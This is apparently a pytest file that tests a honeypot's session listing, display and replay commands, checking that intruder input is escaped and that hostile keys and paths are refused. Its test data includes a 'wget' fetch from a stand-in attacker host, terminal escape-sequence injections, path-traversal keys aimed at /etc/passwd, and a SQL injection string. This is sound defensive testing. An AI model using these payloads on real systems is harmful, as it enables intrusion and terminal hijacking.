# SPDX-License-Identifier: GPL-2.0-or-later
"""moatctl decoy sessions|show|replay against a real stack (issue 11): a
telnet and a SubSeven session are made through moat-decoyd, then listed
(with each filter), shown with their credentials, commands and download URLs
(the intruder's control bytes and escape sequences escaped, never raw on the
operator's terminal), and replayed from the asciicast file with its timing.
Hostile keys (../../etc/passwd) and rows whose recording path points outside
record_dir (a path, a symlink) are refused; a recording holding escape
sequences replays escaped unless --raw."""
import json
import os
import re
import socket
import subprocess
import time

import pytest

from moatstack import wait_for

# The telnet user carries a C1 CSI (0x9b: "ESC [" to some terminals); the
# SubSeven password a real ESC sequence (clear screen) and a BEL.
TN_USER = b"ro\x9b2Jot"
TN_PASSWORD = b"hunter2"
TN_COMMANDS = [b"uname -a", b"wget http://evil.example/bot.sh"]
S7_PASSWORD = b"pw\x1b[2J\x07end"
ESC_CAST_KEY = "20261207T010203-99999-1"


@pytest.fixture(scope="module")
def dd(stack):
    if stack.env.get("DECOYD") != "running":
        pytest.skip("moat-decoyd is not built")
    return stack


def port(st, name):
    words = dict(w.split(":", 1) for w in st.env["DECOY_PORTS"].split())
    return int(words[name])


def ctl(st, *args, timeout=60):
    """moatctl -d DB ARGS (text)."""
    return st.moatctl(*args, timeout=timeout)


def ctlc(st, *args, conf=None, timeout=60):
    """moatctl with the stack's config (replay reads decoyd.record_dir), bytes."""
    return subprocess.run([st.env["MOATCTL"], "-c", conf or st.env["CONF"], "-d", st.env["DB"]] +
                          [str(a) for a in args], capture_output=True, timeout=timeout)


def sessions(st):
    return st.sql("SELECT * FROM decoy_sessions ORDER BY id")


def read_until(s, pattern, limit=65536):
    got = b""
    while not re.search(pattern, got) and len(got) < limit:
        d = s.recv(4096)
        if not d:
            break
        got += d
    return got


def row_of(st, sock):
    """The decoy_sessions row of the session sock is (or was) the client of:
    its decoy.connect event names the session by our port.  (Rows of earlier
    tests' sessions may be written late: "the next new row" is not ours.)"""
    src_port = sock.getsockname()[1]

    def key():
        for r in st.sql("SELECT detail_json FROM events WHERE kind = 'decoy.connect' "
                        "ORDER BY id DESC LIMIT 200"):
            d = json.loads(r["detail_json"])
            if d.get("src_port") == src_port:
                return d["session"]
        return None
    k = wait_for(key, timeout=15, what="the session's connect event")
    return wait_for(lambda: [r for r in sessions(st)
                             if json.loads(r["summary"] or "{}").get("session") == k] or None,
                    timeout=15, what="the session's row")[0]


@pytest.fixture(scope="module")
def telnet_row(dd):
    s = socket.create_connection(("127.0.0.1", port(dd, "telnet")), timeout=10)
    s.sendall(b"\xff\xfb\x18\xff\xfb\x20\xff\xfb\x23\xff\xfb\x27")
    read_until(s, rb"login: $")
    s.sendall(TN_USER + b"\r\n")
    read_until(s, rb"Password: $")
    s.sendall(TN_PASSWORD + b"\r\n")
    read_until(s, rb"[$#] $")
    for c in TN_COMMANDS:
        time.sleep(0.3)                         # some time between, to replay
        s.sendall(c + b"\r\n")
        read_until(s, rb"[$#] $")
    s.sendall(b"exit\r\n")
    read_until(s, rb"logout")
    row = row_of(dd, s)
    s.close()
    return row


@pytest.fixture(scope="module")
def subseven_row(dd):
    s = socket.create_connection(("127.0.0.1", port(dd, "subseven")), timeout=10)
    assert s.recv(3) == b"PWD"
    s.sendall(b"PWD" + S7_PASSWORD + b"\r")
    read_until(s, rb"version: ")
    s.sendall(b"URLhttp://evil.example/\x1b]0;owned\x07x.exe\r")
    time.sleep(0.3)
    s.sendall(b"CLS\r")
    try:
        while s.recv(4096):
            pass
    except OSError:
        pass
    row = row_of(dd, s)
    s.close()
    return row


def key_of(row):
    return json.loads(row["summary"])["session"]


def assert_terminal_safe(out):
    """No control byte but LF (and CR/TAB/BS when layout is kept), no C1."""
    text = out.decode("utf-8")                  # valid UTF-8, or this raises
    for ch in text:
        assert ch in "\n" or not (ord(ch) < 0x20 or 0x7f <= ord(ch) < 0xa0), repr(text)


# ------------------------------------------------------------------ sessions

def test_sessions_lists_rows_with_columns(dd, telnet_row, subseven_row):
    r = ctl(dd, "decoy", "sessions")
    assert r.returncode == 0, r.stderr
    head = r.stdout.splitlines()[0].split()
    assert head == ["id", "key", "start", "source", "service", "user", "logins", "commands",
                    "downloads", "bytes", "end_reason"]
    lines = {l.split()[1]: l for l in r.stdout.splitlines()[1:]}
    tl = lines[key_of(telnet_row)]
    assert "telnet/%d" % port(dd, "telnet") in tl and "127.0.0.1" in tl
    assert "ro\\xc2\\x9b2Jot" in tl                # the C1 CSI escaped, visibly
    assert " logout" in tl
    assert key_of(subseven_row) in lines
    assert_terminal_safe(r.stdout.encode())


def test_sessions_filters(dd, telnet_row, subseven_row):
    r = ctl(dd, "decoy", "sessions", "--personality", "subseven")
    keys = [l.split()[1] for l in r.stdout.splitlines()[1:]]
    assert key_of(subseven_row) in keys and key_of(telnet_row) not in keys
    r = ctl(dd, "decoy", "sessions", "--source", "192.0.2.1")
    assert r.returncode == 0 and len(r.stdout.splitlines()) == 1      # the header only
    r = ctl(dd, "decoy", "sessions", "--source", "127.0.0.1", "--limit", "1")
    assert len(r.stdout.splitlines()) == 2
    r = ctl(dd, "decoy", "sessions", "--since", "1h")
    assert key_of(telnet_row) in r.stdout
    r = ctl(dd, "decoy", "sessions", "--since", "2999-01-01")
    assert len(r.stdout.splitlines()) == 1
    for bad in (["--source", "not-an-ip"], ["--personality", "ssh"], ["--since", "yesterday"],
                ["--limit", "0"], ["--limit", "-3"], ["--bogus"]):
        r = ctl(dd, "decoy", "sessions", *bad)
        assert r.returncode in (1, 2) and r.stdout == "", bad


# ------------------------------------------------------------------ show

def test_show_prints_row_and_events(dd, telnet_row):
    key = key_of(telnet_row)
    r = ctlc(dd, "decoy", "show", key)
    assert r.returncode == 0, r.stderr
    out = r.stdout
    assert_terminal_safe(out)
    text = out.decode()
    assert key in text and telnet_row["transcript_path"] in text
    assert "decoy.login" in text and "user=ro\\xc2\\x9b2Jot password=hunter2" in text
    assert "decoy.command" in text and "uname -a" in text
    assert "decoy.download" in text and "wget http://evil.example/bot.sh" in text
    assert "decoy.connect" in text and "decoy.disconnect" in text
    # By row id too.
    r2 = ctlc(dd, "decoy", "show", str(telnet_row["id"]))
    assert r2.returncode == 0 and r2.stdout == out


def test_show_escapes_escape_sequences(dd, subseven_row):
    r = ctlc(dd, "decoy", "show", key_of(subseven_row))
    assert r.returncode == 0, r.stderr
    assert b"\x1b" not in r.stdout and b"\x07" not in r.stdout
    assert_terminal_safe(r.stdout)
    text = r.stdout.decode()
    assert "password=pw\\x1b[2J\\x07end" in text
    assert "subseven-url http://evil.example/\\x1b]0;owned\\x07x.exe" in text


def test_show_refuses_hostile_and_unknown_keys(dd):
    for key in ("../../etc/passwd", "20261207T010203-1-1/../../x", "%", "' OR 1=1 --",
                "20261207T010203-1-1\x1b[2J"):
        r = ctlc(dd, "decoy", "show", key)
        assert r.returncode == 1 and r.stdout == b"", key
        assert b"bad session key" in r.stderr, r.stderr
    r = ctlc(dd, "decoy", "show", "20000101T000000-1-1")
    assert r.returncode == 1 and b"no decoy session" in r.stderr


# ------------------------------------------------------------------ replay

def test_replay_plays_output_with_timing(dd, telnet_row):
    t0 = time.monotonic()
    r = ctlc(dd, "decoy", "replay", key_of(telnet_row))
    took = time.monotonic() - t0
    assert r.returncode == 0, r.stderr
    text = r.stdout.decode()
    assert "login: " in text and "web01:~$ uname -a" in text and "Linux web01" in text
    assert "hunter2" not in text                 # the password was never echoed
    assert took >= 0.5, took                     # the pauses between commands
    t0 = time.monotonic()
    fast = ctlc(dd, "decoy", "replay", key_of(telnet_row), "--speed", "100")
    assert fast.returncode == 0 and fast.stdout == r.stdout
    assert time.monotonic() - t0 < took


def test_replay_print_names_the_file(dd, telnet_row):
    r = ctlc(dd, "decoy", "replay", key_of(telnet_row), "--print")
    assert r.returncode == 0, r.stderr
    assert r.stdout.decode() == "asciinema play '%s'\n" % os.path.realpath(
        telnet_row["transcript_path"])
    for bad in (["--speed", "0"], ["--speed", "x"], ["--speed", "1e9"]):
        r = ctlc(dd, "decoy", "replay", key_of(telnet_row), *bad)
        assert r.returncode in (1, 2) and r.stdout == b"", bad


@pytest.fixture(scope="module")
def esc_cast(dd):
    """A recording whose output holds escape sequences (a hostile shell's,
    or a decoyd bug's), with its row."""
    path = os.path.join(dd.env["DECOY_DIR"], ESC_CAST_KEY + ".cast")
    with open(path, "w") as f:
        f.write(json.dumps({"version": 2, "width": 80, "height": 24, "timestamp": 1}) + "\n")
        f.write(json.dumps([0.01, "o", "before\r\n"]) + "\n")
        f.write(json.dumps([0.02, "i", "typed\x1b[2J"]) + "\n")
        f.write(json.dumps([0.03, "o", "\x1b]2;pwned\x07\x1b[2J\x1b[31mred\x9b0m\r\n"]) + "\n")
        f.write("[0.04, \"o\", \"raw byte \\udcff end\\r\\n\"]\n")
    summary = json.dumps({"session": ESC_CAST_KEY, "end": "closed"})
    dd.sql("INSERT INTO decoy_sessions (started, ended, src_ip, port, personality, "
           "transcript_path, summary) VALUES (1, 2, '192.0.2.7', 23, 'telnet', ?, ?)",
           (path, summary))
    return path


def test_replay_escapes_escape_sequences(dd, esc_cast):
    r = ctlc(dd, "decoy", "replay", ESC_CAST_KEY)
    assert r.returncode == 0, r.stderr
    assert b"\x1b" not in r.stdout and b"\x07" not in r.stdout and b"\xc2\x9b" not in r.stdout
    text = r.stdout.decode()
    assert text == ("before\r\n\\x1b]2;pwned\\x07\\x1b[2J\\x1b[31mred\\xc2\\x9b0m\r\n"
                    "raw byte \\xff end\r\n"), repr(text)
    assert "typed" not in text                   # input is not output
    raw = ctlc(dd, "decoy", "replay", ESC_CAST_KEY, "--raw")
    assert raw.returncode == 0
    assert b"\x1b]2;pwned\x07\x1b[2J" in raw.stdout and b"\xff end" in raw.stdout


def test_replay_refuses_paths_outside_record_dir(dd, esc_cast):
    for key in ("../../etc/passwd", "/etc/passwd", "..", ESC_CAST_KEY + "/../x"):
        r = ctlc(dd, "decoy", "replay", key)
        assert r.returncode == 1 and r.stdout == b"", key
        assert b"bad session key" in r.stderr
    # A row (store edited by hand, or by an attacker through some hole)
    # whose path leaves record_dir; and one whose file is a symlink out.
    evil_key = "20261207T010203-99999-2"
    link_key = "20261207T010203-99999-3"
    link = os.path.join(dd.env["DECOY_DIR"], link_key + ".cast")
    os.symlink("/etc/passwd", link)
    for key, path in ((evil_key, "/etc/passwd"),
                      (evil_key.replace("-2", "-4"),
                       dd.env["DECOY_DIR"] + "/../moat.conf"),
                      (link_key, link)):
        dd.sql("INSERT INTO decoy_sessions (started, src_ip, port, personality, "
               "transcript_path, summary) VALUES (1, '192.0.2.8', 23, 'telnet', ?, ?)",
               (path, json.dumps({"session": key})))
        for extra in ([], ["--raw"], ["--print"]):
            r = ctlc(dd, "decoy", "replay", key, *extra)
            assert r.returncode == 1 and r.stdout == b"", (key, extra, r.stdout[:200])
            assert b"refused" in r.stderr, r.stderr
    # A row whose key itself is hostile: refused before any file is named.
    dd.sql("INSERT INTO decoy_sessions (started, src_ip, port, personality, "
           "transcript_path, summary) VALUES (1, '192.0.2.9', 23, 'telnet', ?, ?)",
           ("/etc/passwd", json.dumps({"session": "../../../etc/passwd"})))
    row_id = dd.sql("SELECT max(id) AS id FROM decoy_sessions")[0]["id"]
    r = ctlc(dd, "decoy", "replay", str(row_id))
    assert r.returncode == 1 and r.stdout == b"" and b"malformed" in r.stderr


def test_replay_needs_record_dir_from_config(dd, telnet_row):
    r = ctlc(dd, "decoy", "replay", key_of(telnet_row), conf="/nonexistent/moat.conf")
    assert r.returncode == 1 and r.stdout == b""
